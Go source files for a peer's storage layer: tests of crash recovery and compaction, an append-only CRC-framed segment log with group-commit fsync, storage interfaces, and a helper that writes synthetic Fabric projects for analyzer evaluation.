	if latest := loadAll(t, b2.State()); len(latest) != 50 {
		t.Fatalf("recovered %d keys, want 50", len(latest))
	}
}

func TestDurableTornTailTruncated(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{})
	for h := uint64(1); h <= 3; h++ {
		if err := b.State().Apply(storage.StateBatch{Height: h, Records: []storage.StateRecord{
			{Namespace: "ns", Key: "k", Value: []byte("v"), Version: h},
		}}); err != nil {
			t.Fatal(err)
		}
	}
	b.Close()

	// Simulate a crash mid-append: garbage half-record at the tail of
	// the active segment.
	seg := filepath.Join(dir, "state", segName(1))
	f, err := os.OpenFile(seg, os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte{0x00, 0x00, 0x01, 0xff, 0xde, 0xad}); err != nil {
		t.Fatal(err)
	}
	f.Close()
	before, _ := os.Stat(seg)

	b2 := openTest(t, dir, storage.Options{})
	if w := b2.State().Watermark(); w != 3 {
		t.Fatalf("watermark = %d, want 3 (torn tail dropped, intact prefix kept)", w)
	}
	after, _ := os.Stat(seg)
	if after.Size() >= before.Size() {
		t.Fatalf("torn tail not truncated: %d -> %d bytes", before.Size(), after.Size())
	}
	// The store must be appendable after repair.
	if err := b2.State().Apply(storage.StateBatch{Height: 4, Records: []storage.StateRecord{
		{Namespace: "ns", Key: "k", Value: []byte("v4"), Version: 4},
	}}); err != nil {
		t.Fatal(err)
	}
	b2.Close()

	b3 := openTest(t, dir, storage.Options{})
	defer b3.Close()
	if w := b3.State().Watermark(); w != 4 {
		t.Fatalf("watermark after repair+append = %d, want 4", w)
	}
}

func TestDurableSealedCorruptionRejected(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{SegmentBytes: 256})
	for h := uint64(1); h <= 20; h++ {
		if err := b.State().Apply(storage.StateBatch{Height: h, Records: []storage.StateRecord{
			{Namespace: "ns", Key: fmt.Sprintf("k%d", h), Value: make([]byte, 64), Version: h},
		}}); err != nil {
			t.Fatal(err)
		}
	}
	b.Close()

	// Flip a payload byte in the middle of the first (sealed) segment:
	// not a torn tail, so recovery must refuse rather than repair.
	seg := filepath.Join(dir, "state", segName(1))
	raw, err := os.ReadFile(seg)
	if err != nil {
		t.Fatal(err)
	}
	raw[len(raw)/2] ^= 0xff
	if err := os.WriteFile(seg, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(storage.Options{Dir: dir, SegmentBytes: 256, NoBackgroundCompaction: true}); !errors.Is(err, storage.ErrCorrupt) {
		t.Fatalf("open with corrupt sealed segment: got %v, want ErrCorrupt", err)
	}
}

func TestDurableCompactionKeepsLatestAndTombstones(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{SegmentBytes: 1024})
	st := b.State()
	// Overwrite two keys many times, then delete one; roll plenty of
	// segments so compaction has a prefix to chew.
	var h uint64
	for round := 0; round < 40; round++ {
		h++
		if err := st.Apply(storage.StateBatch{Height: h, Records: []storage.StateRecord{
			{Namespace: "ns", Key: "hot", Value: make([]byte, 128), Version: h},
			{Namespace: "ns", Key: "doomed", Value: make([]byte, 128), Version: h},
		}}); err != nil {
			t.Fatal(err)
		}
	}
	h++
	if err := st.Apply(storage.StateBatch{Height: h, Records: []storage.StateRecord{
		{Namespace: "ns", Key: "doomed", Version: 40, Delete: true},
	}}); err != nil {
		t.Fatal(err)
	}

	segsBefore, _ := filepath.Glob(filepath.Join(dir, "state", "seg-*.log"))
	if err := st.Compact(); err != nil {
		t.Fatalf("compact: %v", err)
	}
	segsAfter, _ := filepath.Glob(filepath.Join(dir, "state", "seg-*.log"))
	if len(segsAfter) >= len(segsBefore) {
		t.Fatalf("compaction did not shrink segment count: %d -> %d", len(segsBefore), len(segsAfter))
	}

	// A second compaction must be safe (idempotent shape).
	if err := st.Compact(); err != nil {
		t.Fatalf("second compact: %v", err)
	}
	b.Close()

	b2 := openTest(t, dir, storage.Options{SegmentBytes: 1024})
	defer b2.Close()
	if w := b2.State().Watermark(); w != h {
		t.Fatalf("watermark after compaction = %d, want %d", w, h)
	}
	latest := loadAll(t, b2.State())
	hot := latest["ns/hot"]
	if hot.Version != 40 || hot.Delete {
		t.Fatalf("hot = %+v, want version 40 put", hot)
	}
	doomed, ok := latest["ns/doomed"]
	if !ok {
		t.Fatal("tombstone for doomed was reclaimed by compaction; version continuity lost")
	}
	if !doomed.Delete || doomed.Version != 40 {
		t.Fatalf("doomed = %+v, want version-40 tombstone", doomed)
	}
}

func TestDurableCompactionConcurrentWithApplies(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{SegmentBytes: 512})
	st := b.State()
	for h := uint64(1); h <= 30; h++ {
		if err := st.Apply(storage.StateBatch{Height: h, Records: []storage.StateRecord{
			{Namespace: "ns", Key: "k", Value: make([]byte, 64), Version: h},
		}}); err != nil {
			t.Fatal(err)
		}
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for h := uint64(31); h <= 60; h++ {
			if err := st.Apply(storage.StateBatch{Height: h, Records: []storage.StateRecord{
				{Namespace: "ns", Key: "k", Value: make([]byte, 64), Version: h},
			}}); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	if err := st.Compact(); err != nil {
		t.Fatalf("compact during applies: %v", err)
	}
	<-done
	b.Close()

	b2 := openTest(t, dir, storage.Options{SegmentBytes: 512})
	defer b2.Close()
	latest := loadAll(t, b2.State())
	if r := latest["ns/k"]; r.Version != 60 {
		t.Fatalf("k recovered at version %d, want 60", r.Version)
	}
}

func TestDurableInjectedFailureIsSticky(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{})
	if err := b.State().Apply(storage.StateBatch{Height: 1, Records: []storage.StateRecord{
		{Namespace: "ns", Key: "k", Value: []byte("v"), Version: 1},
	}}); err != nil {
		t.Fatal(err)
	}
	boom := errors.New("injected crash")
	b.InjectStateFailure(boom)
	if err := b.State().Apply(storage.StateBatch{Height: 2}); !errors.Is(err, boom) {
		t.Fatalf("apply after injection: got %v, want injected error", err)
	}
	if err := b.State().Apply(storage.StateBatch{Height: 3}); !errors.Is(err, boom) {
		t.Fatalf("sticky error not sticky: %v", err)
	}
	b.Close()

	// Reopen recovers the pre-failure durable prefix.
	b2 := openTest(t, dir, storage.Options{})
	defer b2.Close()
	if w := b2.State().Watermark(); w != 1 {
		t.Fatalf("watermark = %d, want 1", w)
	}
}

func TestDurablePvtRoundTrip(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{})
	pvt := b.Pvt()
	for i := 0; i < 5; i++ {
		if err := pvt.SchedulePurge(storage.PurgeEntry{At: uint64(10 + i), Namespace: "ns", Key: fmt.Sprintf("k%d", i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := pvt.CompletePurge(12); err != nil {
		t.Fatal(err)
	}
	if err := pvt.RecordMissing(storage.MissingEntry{TxID: "tx1", Collection: "c1"}); err != nil {
		t.Fatal(err)
	}
	if err := pvt.RecordMissing(storage.MissingEntry{TxID: "tx2", Collection: "c2"}); err != nil {
		t.Fatal(err)
	}
	if err := pvt.ResolveMissing(storage.MissingEntry{TxID: "tx1", Collection: "c1"}); err != nil {
		t.Fatal(err)
	}
	b.Close()

	b2 := openTest(t, dir, storage.Options{})
	defer b2.Close()
	var purges []storage.PurgeEntry
	b2.Pvt().LoadPurges(func(e storage.PurgeEntry) error { purges = append(purges, e); return nil })
	if len(purges) != 2 || purges[0].At != 13 || purges[1].At != 14 {
		t.Fatalf("recovered purges = %+v, want At 13 and 14", purges)
	}
	var missing []storage.MissingEntry
	b2.Pvt().LoadMissing(func(e storage.MissingEntry) error { missing = append(missing, e); return nil })
	if len(missing) != 1 || missing[0].TxID != "tx2" {
		t.Fatalf("recovered missing = %+v, want only tx2", missing)
	}
}

func TestDurablePvtCompaction(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{SegmentBytes: 256})
	pvt := b.pvt
	for i := 0; i < 200; i++ {
		if err := pvt.SchedulePurge(storage.PurgeEntry{At: uint64(i), Namespace: "ns", Key: fmt.Sprintf("k%d", i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := pvt.CompletePurge(197); err != nil {
		t.Fatal(err)
	}
	if err := pvt.compact(); err != nil {
		t.Fatal(err)
	}
	b.Close()

	b2 := openTest(t, dir, storage.Options{SegmentBytes: 256})
	defer b2.Close()
	var purges []storage.PurgeEntry
	b2.Pvt().LoadPurges(func(e storage.PurgeEntry) error { purges = append(purges, e); return nil })
	if len(purges) != 2 {
		t.Fatalf("recovered %d purges after compaction, want 2", len(purges))
	}
}

func TestDurableBlocksThroughBackend(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{})
	b0 := ledger.NewBlock(0, nil, nil)
	b1 := ledger.NewBlock(1, b0.Hash(), nil)
	if err := b.Blocks().Append(b0); err != nil {
		t.Fatal(err)
	}
	if err := b.Blocks().Append(b1); err != nil {
		t.Fatal(err)
	}
	b.Close()

	b2 := openTest(t, dir, storage.Options{})
	defer b2.Close()
	if h := b2.Blocks().Height(); h != 2 {
		t.Fatalf("block height after reopen = %d, want 2", h)
	}
	blocks, err := b2.Blocks().ReadAll()
	if err != nil || len(blocks) != 2 {
		t.Fatalf("ReadAll = %d blocks, err %v", len(blocks), err)
	}
}

func TestDurableRequiresDir(t *testing.T) {
	if _, err := Open(storage.Options{}); err == nil {
		t.Fatal("Open without a directory should fail")
	}
}

func BenchmarkStorageApplyDurable(b *testing.B) {
	benchApply(b, storage.Options{Dir: b.TempDir(), NoBackgroundCompaction: true})
}

func BenchmarkStorageApplyDurableNoFsync(b *testing.B) {
	benchApply(b, storage.Options{Dir: b.TempDir(), NoFsync: true, NoBackgroundCompaction: true})
}

func benchApply(b *testing.B, opts storage.Options) {
	be, err := Open(opts)
	if err != nil {
		b.Fatal(err)
	}
	defer be.Close()
	val := make([]byte, 256)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		batch := storage.StateBatch{Height: uint64(i + 1)}
		for k := 0; k < 20; k++ {
			batch.Records = append(batch.Records, storage.StateRecord{
				Namespace: "ns", Key: fmt.Sprintf("key-%d", k), Value: val, Version: uint64(i + 1),
			})
		}
		if err := be.State().Apply(batch); err != nil {
			b.Fatal(err)
		}
	}
}
