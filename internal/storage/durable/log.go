// Package durable implements the on-disk storage backend: append-only
// segment files with CRC-framed records, batched group-commit fsync,
// crash-recovery replay on open (truncating torn tails) and prefix
// compaction. docs/STORAGE.md is the authoritative specification of the
// format and the recovery algorithm; this package is its implementation.
//
// The backend registers itself with the storage factory under the name
// "durable" (import for side effect, as with database/sql drivers).
package durable

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"

	"repro/internal/storage"
)

// Record framing (docs/STORAGE.md §2):
//
//	offset  size  field
//	0       4     length N of the body, big-endian uint32
//	4       4     CRC-32C (Castagnoli) of the body, big-endian uint32
//	8       N     body: 1 type byte followed by the payload
//
// A record is valid iff the 8-byte header fits, 1 <= N <=
// maxRecordBytes, the body fits, and the CRC matches.
const (
	frameHeaderLen = 8
	// maxRecordBytes bounds a single record body; anything larger in a
	// length field is treated as corruption.
	maxRecordBytes = 64 << 20
)

// DefaultSegmentBytes is the active-segment size cap before sealing.
const DefaultSegmentBytes = 4 << 20

// DefaultCompactGarbageRatio triggers compaction when sealed segments
// are more than half superseded bytes.
const DefaultCompactGarbageRatio = 0.5

var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// log is one append-only segmented record log: a directory of
// seg-%08d.log files of which the highest-numbered is the active (write)
// segment and the rest are sealed (immutable). The active segment is the
// write-ahead log: records become durable in the order appended, and a
// crash can only tear its tail, which open truncates.
type log struct {
	dir          string
	segmentBytes int64
	fsync        bool

	// mu serializes writes, sealing and the sealed-segment list.
	mu         sync.Mutex
	active     *os.File
	activeID   uint64
	activeSize int64
	sealed     []uint64 // sealed segment ids, ascending
	sealedSize map[uint64]int64
	closed     bool
	writeErr   error // sticky: the log is broken after a failed write

	// writeSeq numbers appends; syncSeq is the highest append known
	// fsynced. Together they implement group commit: one fsync covers
	// every append completed before it started.
	writeSeq uint64 // written under mu, read atomically
	syncMu   sync.Mutex
	syncSeq  uint64
	syncErr  error // sticky: the log is broken after a failed fsync

	// compactMu serializes compactions.
	compactMu sync.Mutex
}

func segName(id uint64) string { return fmt.Sprintf("seg-%08d.log", id) }

const compactTmp = "compact.tmp"

// openLog opens (or creates) the log under dir, replaying every intact
// record through fn in order. A torn tail in the highest segment is
// truncated; corruption anywhere else fails with storage.ErrCorrupt.
func openLog(dir string, segmentBytes int64, fsync bool, fn func(recType byte, payload []byte) error) (*log, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("%w: mkdir %s: %v", storage.ErrIO, dir, err)
	}
	// A leftover merge temp means a crash mid-compaction: the merged
	// segment was never installed, the source segments are intact.
	_ = os.Remove(filepath.Join(dir, compactTmp))

	if segmentBytes <= 0 {
		segmentBytes = DefaultSegmentBytes
	}
	l := &log{dir: dir, segmentBytes: segmentBytes, fsync: fsync, sealedSize: make(map[uint64]int64)}

	ids, err := l.listSegments()
	if err != nil {
		return nil, err
	}
	for i, id := range ids {
		last := i == len(ids)-1
		size, err := l.replaySegment(id, last, fn)
		if err != nil {
			return nil, err
		}
		if last {
			l.activeID = id
			l.activeSize = size
		} else {
			l.sealed = append(l.sealed, id)
			l.sealedSize[id] = size
		}
	}
	if len(ids) == 0 {
		l.activeID = 1
	}
	f, err := os.OpenFile(l.segPath(l.activeID), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, fmt.Errorf("%w: open segment: %v", storage.ErrIO, err)
	}
	l.active = f
	return l, nil
}

func (l *log) segPath(id uint64) string { return filepath.Join(l.dir, segName(id)) }

func (l *log) listSegments() ([]uint64, error) {
	entries, err := os.ReadDir(l.dir)
	if err != nil {
		return nil, fmt.Errorf("%w: readdir: %v", storage.ErrIO, err)
	}
	var ids []uint64
	for _, e := range entries {
		var id uint64
		if _, err := fmt.Sscanf(e.Name(), "seg-%08d.log", &id); err == nil {
			ids = append(ids, id)
		}
	}
	sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
	return ids, nil
}

// replaySegment scans one segment, calling fn per intact record, and
// returns the number of valid bytes. In the last (active) segment a
// record that fails framing or CRC marks a torn tail: the file is
// truncated to the last intact record and the scan stops. Anywhere else
// the same failure is corruption.
func (l *log) replaySegment(id uint64, last bool, fn func(recType byte, payload []byte) error) (int64, error) {
	path := l.segPath(id)
	f, err := os.Open(path)
	if err != nil {
		return 0, fmt.Errorf("%w: open %s: %v", storage.ErrIO, path, err)
	}
	defer f.Close()

	var offset int64
	header := make([]byte, frameHeaderLen)
	for {
		_, err := io.ReadFull(f, header)
		if err == io.EOF {
			return offset, nil // clean end
		}
		bad := ""
		var body []byte
		switch {
		case err != nil:
			bad = "short header"
		default:
			n := binary.BigEndian.Uint32(header[0:4])
			if n == 0 || n > maxRecordBytes {
				bad = fmt.Sprintf("implausible length %d", n)
				break
			}
			body = make([]byte, n)
			if _, err := io.ReadFull(f, body); err != nil {
				bad = "short body"
				break
			}
			if crc32.Checksum(body, castagnoli) != binary.BigEndian.Uint32(header[4:8]) {
				bad = "crc mismatch"
			}
		}
		if bad != "" {
			if !last {
				return 0, fmt.Errorf("%w: %s at %s+%d", storage.ErrCorrupt, bad, filepath.Base(path), offset)
			}
			// Torn tail: drop everything from the first bad record on.
			if err := os.Truncate(path, offset); err != nil {
				return 0, fmt.Errorf("%w: truncate torn tail of %s: %v", storage.ErrIO, path, err)
			}
			return offset, nil
		}
		if err := fn(body[0], body[1:]); err != nil {
			return 0, err
		}
		offset += frameHeaderLen + int64(len(body))
	}
}

// frame renders one record.
func frame(recType byte, payload []byte) []byte {
	body := make([]byte, 1+len(payload))
	body[0] = recType
	copy(body[1:], payload)
	buf := make([]byte, frameHeaderLen+len(body))
	binary.BigEndian.PutUint32(buf[0:4], uint32(len(body)))
	binary.BigEndian.PutUint32(buf[4:8], crc32.Checksum(body, castagnoli))
	copy(buf[frameHeaderLen:], body)
	return buf
}

// append writes one record and group-commits it: the call returns once
// the record is fsynced, sharing the fsync with every append completed
// before the sync started.
func (l *log) append(recType byte, payload []byte) error {
	buf := frame(recType, payload)

	l.mu.Lock()
	if l.closed {
		l.mu.Unlock()
		return storage.ErrClosed
	}
	if l.writeErr != nil {
		err := l.writeErr
		l.mu.Unlock()
		return err
	}
	if l.activeSize >= l.segmentBytes && l.activeSize > 0 {
		if err := l.sealLocked(); err != nil {
			l.writeErr = err
			l.mu.Unlock()
			return err
		}
	}
	n, err := l.active.Write(buf)
	if err != nil || n != len(buf) {
		// Roll the partial frame back so the segment stays parseable;
		// if even that fails, recovery's torn-tail truncation covers it.
		_ = l.active.Truncate(l.activeSize)
		l.writeErr = fmt.Errorf("%w: append: %v", storage.ErrIO, err)
		err := l.writeErr
		l.mu.Unlock()
		return err
	}
	l.activeSize += int64(len(buf))
	atomic.AddUint64(&l.writeSeq, 1)
	seq := atomic.LoadUint64(&l.writeSeq)
	f := l.active
	l.mu.Unlock()

	return l.syncTo(f, seq)
}

// syncTo ensures append seq is fsynced. The first caller to arrive
// fsyncs and advances syncSeq to the latest completed write, so
// concurrent appenders piggyback on one fsync (group commit).
func (l *log) syncTo(f *os.File, seq uint64) error {
	l.syncMu.Lock()
	defer l.syncMu.Unlock()
	if l.syncErr != nil {
		return l.syncErr
	}
	if l.syncSeq >= seq {
		return nil
	}
	// Every write numbered <= covered was fully in the file before this
	// fsync starts.
	covered := atomic.LoadUint64(&l.writeSeq)
	if l.fsync {
		if err := f.Sync(); err != nil {
			l.syncErr = fmt.Errorf("%w: fsync: %v", storage.ErrIO, err)
			return l.syncErr
		}
	}
	l.syncSeq = covered
	return nil
}

// sealLocked fsyncs and closes the active segment, records it sealed and
// opens the next one. Caller holds l.mu.
func (l *log) sealLocked() error {
	l.syncMu.Lock()
	if l.fsync {
		if err := l.active.Sync(); err != nil {
			l.syncMu.Unlock()
			return fmt.Errorf("%w: seal fsync: %v", storage.ErrIO, err)
		}
	}
	l.syncSeq = atomic.LoadUint64(&l.writeSeq)
	err := l.active.Close()
	l.syncMu.Unlock()
	if err != nil {
		return fmt.Errorf("%w: seal close: %v", storage.ErrIO, err)
	}
	l.sealed = append(l.sealed, l.activeID)
	l.sealedSize[l.activeID] = l.activeSize
	l.activeID++
	f, err := os.OpenFile(l.segPath(l.activeID), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return fmt.Errorf("%w: open segment: %v", storage.ErrIO, err)
	}
	l.active = f
	l.activeSize = 0
	return l.syncDir()
}

// syncDir fsyncs the log directory so segment creations and renames are
// durable.
func (l *log) syncDir() error {
	if !l.fsync {
		return nil
	}
	d, err := os.Open(l.dir)
	if err != nil {
		return fmt.Errorf("%w: open dir: %v", storage.ErrIO, err)
	}
	defer d.Close()
	if err := d.Sync(); err != nil {
		return fmt.Errorf("%w: fsync dir: %v", storage.ErrIO, err)
	}
	return nil
}

// replayAll re-scans every segment, sealed and active, in order. The
// caller must guarantee no concurrent appends (it backs Load, which by
// contract runs once on a freshly opened store before any append), so
// the scan never truncates: any framing failure is corruption.
func (l *log) replayAll(fn func(recType byte, payload []byte) error) error {
	l.mu.Lock()
	ids := append(append([]uint64(nil), l.sealed...), l.activeID)
	l.mu.Unlock()
	for _, id := range ids {
		if _, err := l.replaySegment(id, false, fn); err != nil {
			return err
		}
	}
	return nil
}

// sealedSnapshot returns the current sealed ids and their total size.
func (l *log) sealedSnapshot() ([]uint64, int64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	ids := append([]uint64(nil), l.sealed...)
	var total int64
	for _, id := range ids {
		total += l.sealedSize[id]
	}
	return ids, total
}

// compact merges every segment sealed at the time of the call into one.
// build receives a replay function over the sealed records (in log
// order) and an emit function appending records to the merged segment;
// it decides what survives. Appends to the active segment proceed
// concurrently — sealed segments are immutable.
func (l *log) compact(build func(replay func(fn func(recType byte, payload []byte) error) error, emit func(recType byte, payload []byte) error) error) error {
	l.compactMu.Lock()
	defer l.compactMu.Unlock()

	ids, _ := l.sealedSnapshot()
	if len(ids) == 0 {
		return nil
	}
	mergedID := ids[len(ids)-1]

	tmpPath := filepath.Join(l.dir, compactTmp)
	tmp, err := os.OpenFile(tmpPath, os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return fmt.Errorf("%w: compact tmp: %v", storage.ErrIO, err)
	}
	var mergedSize int64
	emit := func(recType byte, payload []byte) error {
		buf := frame(recType, payload)
		if _, err := tmp.Write(buf); err != nil {
			return fmt.Errorf("%w: compact write: %v", storage.ErrIO, err)
		}
		mergedSize += int64(len(buf))
		return nil
	}
	replay := func(fn func(recType byte, payload []byte) error) error {
		for _, id := range ids {
			if _, err := l.replaySegment(id, false, fn); err != nil {
				return err
			}
		}
		return nil
	}
	if err := build(replay, emit); err != nil {
		tmp.Close()
		os.Remove(tmpPath)
		return err
	}
	if l.fsync {
		if err := tmp.Sync(); err != nil {
			tmp.Close()
			os.Remove(tmpPath)
			return fmt.Errorf("%w: compact fsync: %v", storage.ErrIO, err)
		}
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmpPath)
		return fmt.Errorf("%w: compact close: %v", storage.ErrIO, err)
	}
	// Install: the merged file atomically replaces the highest sealed
	// segment, then the lower ones are removed. A crash between the two
	// steps leaves stale low segments whose records are superseded by
	// the merged segment replaying after them — state converges
	// identically (docs/STORAGE.md §5).
	if err := os.Rename(tmpPath, l.segPath(mergedID)); err != nil {
		os.Remove(tmpPath)
		return fmt.Errorf("%w: compact rename: %v", storage.ErrIO, err)
	}
	if err := l.syncDir(); err != nil {
		return err
	}
	l.mu.Lock()
	keep := l.sealed[:0]
	for _, id := range l.sealed {
		if id > mergedID {
			keep = append(keep, id)
		}
	}
	l.sealed = append([]uint64{mergedID}, keep...)
	for _, id := range ids[:len(ids)-1] {
		delete(l.sealedSize, id)
		_ = os.Remove(l.segPath(id))
	}
	l.sealedSize[mergedID] = mergedSize
	l.mu.Unlock()
	return l.syncDir()
}

// failWrites injects a sticky write failure: every subsequent append
// fails with err before touching the file. Crash-recovery tests use it
// to model a peer dying between durability points.
func (l *log) failWrites(err error) {
	l.mu.Lock()
	l.writeErr = err
	l.mu.Unlock()
}

func (l *log) close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return nil
	}
	l.closed = true
	l.syncMu.Lock()
	defer l.syncMu.Unlock()
	var errs []error
	if l.fsync && l.writeErr == nil {
		if err := l.active.Sync(); err != nil {
			errs = append(errs, err)
		}
	}
	if err := l.active.Close(); err != nil {
		errs = append(errs, err)
	}
	if len(errs) > 0 {
		return fmt.Errorf("%w: close: %v", storage.ErrIO, errors.Join(errs...))
	}
	return nil
}
