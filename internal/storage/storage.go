// Package storage defines the durable storage contracts of a peer — the
// BlockStore, StateStore and PvtStore interfaces — and the backend
// factory that selects an implementation by name.
//
// Three backends register by default:
//
//   - "memory"  — everything held in RAM; the same Load/Apply/Restore
//     code paths as the durable backend, nothing on disk. The test
//     default for restart-shaped tests that should not touch the
//     filesystem.
//   - "durable" — append-only segment files with CRC-framed records,
//     group-commit fsync, crash-recovery replay on open and background
//     compaction (internal/storage/durable; spec in docs/STORAGE.md).
//   - "null"    — discards every write; Load replays nothing. Used to
//     measure the cost of the persistence hooks themselves.
//
// An empty backend name in the peer configuration means "no persistence
// layer at all": the peer keeps its world state and chain purely in the
// in-memory structures, exactly as before this package existed.
//
// The contract every implementation must honour, and the on-disk format
// of the durable one, are specified in docs/STORAGE.md. The recovery
// model in one sentence: blocks are made durable before the state
// mutations they caused, so on open the state log's watermark W never
// exceeds the chain height H, and the peer replays blocks [W, H)
// through its validator to catch the state up.
package storage

import (
	"errors"

	"repro/internal/ledger"
)

// Typed storage errors. Implementations wrap these so callers can
// classify failures with errors.Is regardless of backend.
var (
	// ErrCorrupt marks data that failed framing, checksum or chain
	// validation at a position recovery is not allowed to repair (i.e.
	// not a torn tail).
	ErrCorrupt = errors.New("storage: corrupt record")
	// ErrIO marks a failed write, fsync, rename or other filesystem
	// operation. A store that returns ErrIO is broken: the failed data
	// may be partially on disk, and every subsequent append fails until
	// the store is reopened (which re-runs recovery).
	ErrIO = errors.New("storage: io failure")
	// ErrClosed is returned by operations on a closed store.
	ErrClosed = errors.New("storage: store closed")
	// ErrUnknownBackend is returned by Open for an unregistered name.
	ErrUnknownBackend = errors.New("storage: unknown backend")
)

// StateRecord is one durable world-state mutation: a versioned put, or a
// deletion whose Version preserves the tombstone (the last live version
// of the deleted key, so re-creations continue the version sequence
// after a restart — see docs/STATEDB.md).
type StateRecord struct {
	Namespace string
	Key       string
	Value     []byte
	Version   uint64
	Delete    bool
}

// StateBatch is the atomic unit of state durability: every mutation of
// one block commit (Height = block number + 1) or of one reconciliation
// flush (Height = chain height at the flush). A batch is either fully
// durable or, after a crash, entirely absent — implementations must not
// surface partial batches from Load.
type StateBatch struct {
	// Height is the chain height the state reflects once this batch is
	// applied: the batch of block h carries Height h+1.
	Height  uint64
	Records []StateRecord
}

// StateStore persists world-state mutations. It is a write-behind log
// under the in-memory statedb (docs/STATEDB.md): the sharded DB remains
// the read path; the store only absorbs committed batches and replays
// them on open.
type StateStore interface {
	// Apply makes the batch durable. It returns only after the batch
	// survives a crash (for the durable backend: written, CRC-framed and
	// fsynced, possibly sharing one group-commit fsync with concurrent
	// callers).
	Apply(batch StateBatch) error
	// Load replays every durable batch in commit order. Called once,
	// before Apply, on a freshly opened store.
	Load(fn func(batch StateBatch) error) error
	// Watermark is the recovery watermark: the largest Height of any
	// durable batch, i.e. the number of blocks whose state mutations are
	// fully durable. 0 on an empty store.
	Watermark() uint64
	// Compact rewrites sealed segments keeping only the latest record
	// per key (superseded puts and superseded tombstones are reclaimed;
	// the newest tombstone of a dead key is kept for version
	// continuity). No-op on backends with nothing to compact.
	Compact() error
	Close() error
}

// BlockStore persists the blockchain. internal/blockfile implements it
// directly; the in-memory chain (ledger.BlockStore) remains the peer's
// runtime read path.
type BlockStore interface {
	// Append durably adds the next block (blocks arrive in order).
	Append(b *ledger.Block) error
	// Height is the number of durable blocks.
	Height() uint64
	// ReadAll returns every stored block in order, validating framing
	// and hash linkage.
	ReadAll() ([]*ledger.Block, error)
	Close() error
}

// BaseBlockStore is an optional extension of BlockStore for backends
// that support snapshot installs: the store is told it begins at
// `height` (prevHash = hash of block height-1) instead of 0, so a
// snapshot-bootstrapped peer's durable chain holds only blocks from the
// install point. Append numbering and Height then count from the base.
// InstallBase on an already-based empty store with the same parameters
// is a no-op, so a crashed install can be retried.
type BaseBlockStore interface {
	BlockStore
	InstallBase(height uint64, prevHash []byte) error
	// Base returns the first block number the store holds and the hash
	// of its predecessor (0, nil for a genesis store).
	Base() (uint64, []byte)
}

// PurgeEntry is one scheduled BlockToLive purge: the private entry
// (Namespace, Key) is deleted when the chain reaches height At.
type PurgeEntry struct {
	At        uint64
	Namespace string
	Key       string
}

// MissingEntry identifies private data of one (transaction, collection)
// the peer is a member of but never obtained — the reconciler's unit of
// work.
type MissingEntry struct {
	TxID       string
	Collection string
}

// PvtStore persists the private-data lifecycle bookkeeping that is not
// derivable from the chain alone: the BlockToLive purge queue and the
// missing-private-data records driving reconciliation. The private
// values themselves flow through the StateStore (they live in statedb
// namespaces).
type PvtStore interface {
	// SchedulePurge durably records a pending purge.
	SchedulePurge(e PurgeEntry) error
	// CompletePurge durably records that every purge with At <= upTo has
	// been executed.
	CompletePurge(upTo uint64) error
	// LoadPurges replays the still-pending purge entries.
	LoadPurges(fn func(e PurgeEntry) error) error
	// RecordMissing durably records a missing-private-data entry.
	// Recording the same entry twice is a no-op.
	RecordMissing(e MissingEntry) error
	// ResolveMissing durably clears a previously recorded entry.
	ResolveMissing(e MissingEntry) error
	// LoadMissing replays the still-unresolved missing entries.
	LoadMissing(fn func(e MissingEntry) error) error
	Close() error
}

// Backend bundles the three stores of one peer. Implementations are
// constructed by the factory (Open) and own any shared resources
// (directories, background compactors).
type Backend interface {
	// Name is the registered backend name ("memory", "durable", ...).
	Name() string
	Blocks() BlockStore
	State() StateStore
	Pvt() PvtStore
	// Close releases every store and stops background work. Safe to call
	// twice.
	Close() error
}
