package corpus

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// writeProject materializes one project plan as a directory tree.
func writeProject(root string, p project) error {
	dir := filepath.Join(root, p.name)
	ccDir := filepath.Join(dir, "chaincode")
	if err := os.MkdirAll(ccDir, 0o755); err != nil {
		return fmt.Errorf("corpus: mkdir %s: %w", dir, err)
	}

	files := map[string]string{
		"project.json": projectManifest(p),
		"README.md":    fmt.Sprintf("# %s\n\nSynthetic Fabric project for analyzer evaluation.\n", p.name),
	}

	if p.explicit {
		files["collections_config.json"] = collectionsJSON(p)
	}
	if p.configtx != "" {
		files["configtx.yaml"] = configtxYAML(p.configtx)
	}

	switch {
	case p.useJS:
		files[filepath.Join("chaincode", "contract.js")] = jsChaincode(p)
	default:
		files[filepath.Join("chaincode", "contract.go")] = goChaincode(p)
	}
	if p.implicit {
		files[filepath.Join("chaincode", "implicit.go")] = goImplicitChaincode()
	}

	for rel, content := range files {
		if err := os.WriteFile(filepath.Join(dir, rel), []byte(content), 0o644); err != nil {
			return fmt.Errorf("corpus: write %s: %w", rel, err)
		}
	}
	return nil
}

func projectManifest(p project) string {
	return fmt.Sprintf("{\n  \"name\": %q,\n  \"created_at\": \"%d-06-15T12:00:00Z\"\n}\n", p.name, p.year)
}

